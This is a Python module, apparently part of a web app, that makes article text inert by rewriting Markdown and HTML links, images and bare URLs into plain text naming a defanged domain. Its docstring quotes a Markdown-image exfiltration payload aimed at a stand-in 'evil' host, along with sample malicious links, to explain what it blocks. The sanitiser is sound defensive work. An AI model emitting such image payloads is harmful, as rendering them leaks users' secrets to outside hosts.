"""Article text made inert for display: links and images become plain text naming their domain.

Nothing from an article may be active in any face: a Markdown image in a quote would be fetched
by the browser that renders it (the classic exfiltration: `![](https://evil/?q=SECRET)`), a link
would be clickable. `inert` rewrites them, in text that will be rendered as Markdown or HTML, to
plain text that names where they pointed and can be neither fetched nor clicked:

    ![chart](http://127.0.0.1:9/x.png?q=1)  ->  ⟨image: chart, from 127[.]0[.]0[.]1⟩
    [claim refund](http://evil.com/login)    ->  claim refund ⟨link to evil[.]com⟩
    https://evil.com/a?b=c                   ->  ⟨link to evil[.]com⟩
    <img src="http://evil.com/x.png">        ->  ⟨image from evil[.]com⟩

Domains are written defanged ("evil[.]com", the threat-intelligence convention), so not even a
renderer that links bare domains can make them live again; the result carries no URL scheme,
no "www." and no e-mail address. It only rewrites: escaping for HTML is still the renderer's
job (`qa.web.render.esc`). Pure functions, no I/O.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

_SCHEME_URL = r"(?:[a-z][a-z0-9+.-]{1,15}):(?://)?[^\s<>()\[\]\"'`]+"
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*[\"')])?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]+)\]\s*\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*[\"')])?\s*\)")
_REF_DEF = re.compile(r"^([ \t]{0,3})\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?[ \t]*$", re.MULTILINE)
_REF_USE = re.compile(r"(!?)\[([^\]\n]+)\]\s*\[([^\]\n]*)\]")
_HTML_IMG = re.compile(r"<\s*img\b[^>]*?\bsrc\s*=\s*[\"']?([^\"'\s>]+)[^>]*>", re.IGNORECASE)
_HTML_A = re.compile(r"<\s*a\b[^>]*?\bhref\s*=\s*[\"']?([^\"'\s>]+)[^>]*>(.*?)<\s*/\s*a\s*>", re.IGNORECASE | re.DOTALL)
_AUTOLINK = re.compile(rf"<({_SCHEME_URL})>", re.IGNORECASE)
_BARE = re.compile(r"\b(?:https?|ftp|file|data|javascript|mailto|vbscript):(?://)?[^\s<>()\[\]\"'`]+|\bwww\.[^\s<>()\[\]\"'`]+", re.IGNORECASE)
_EMAIL = re.compile(r"\b[\w.+-]+@([\w-]+(?:\.[\w-]+)+)\b")


def domain(url: str) -> str:
    """The host a URL points at ("127.0.0.1", "evil.example"), without "www."; "a data URL",
    "a script" or "an unknown address" when it has none."""
    u = url.strip()
    low = u.lower()
    if low.startswith("data:"):
        return "a data URL"
    if low.startswith(("javascript:", "vbscript:")):
        return "a script"
    if low.startswith("mailto:"):
        m = _EMAIL.search(u[7:])
        return m.group(1) if m else "an e-mail address"
    if low.startswith("www."):
        u = "http://" + u
    try:
        host = urlsplit(u if "//" in u else "//" + u).hostname or ""
    except ValueError:
        host = ""
    host = host.removeprefix("www.")
    return host.replace(".", "[.]") if host else "an unknown address"


def inert(text: str) -> str:
    """`text` with every link, image and URL replaced by inert text naming its domain."""
    if not any(ch in text for ch in "[<:@w"):
        return text
    refs = {m.group(2).strip().lower(): m.group(3) for m in _REF_DEF.finditer(text)}
    text = _REF_DEF.sub(lambda m: f"{m.group(1)}⟨reference {m.group(2)}: link to {domain(m.group(3))}⟩", text)
    text = _IMAGE.sub(lambda m: _image(m.group(1), m.group(2)), text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ⟨link to {domain(m.group(2))}⟩", text)

    def ref_use(m: re.Match[str]) -> str:
        label = m.group(3).strip().lower() or m.group(2).strip().lower()
        target = refs.get(label)
        if m.group(1):
            return _image(m.group(2), target or "")
        return f"{m.group(2)} ⟨link to {domain(target)}⟩" if target else f"{m.group(2)} ⟨link⟩"

    text = _REF_USE.sub(ref_use, text)
    text = _HTML_IMG.sub(lambda m: f"⟨image from {domain(m.group(1))}⟩", text)
    text = _HTML_A.sub(lambda m: f"{m.group(2)} ⟨link to {domain(m.group(1))}⟩", text)
    text = _AUTOLINK.sub(lambda m: f"⟨link to {domain(m.group(1))}⟩", text)
    text = _BARE.sub(lambda m: f"⟨link to {domain(m.group())}⟩", text)
    return _EMAIL.sub(lambda m: f"⟨e-mail address at {m.group(1).replace('.', '[.]')}⟩", text)


def _image(alt: str, url: str) -> str:
    alt = " ".join(alt.split())
    return f"⟨image: {alt}, from {domain(url)}⟩" if alt else f"⟨image from {domain(url)}⟩"
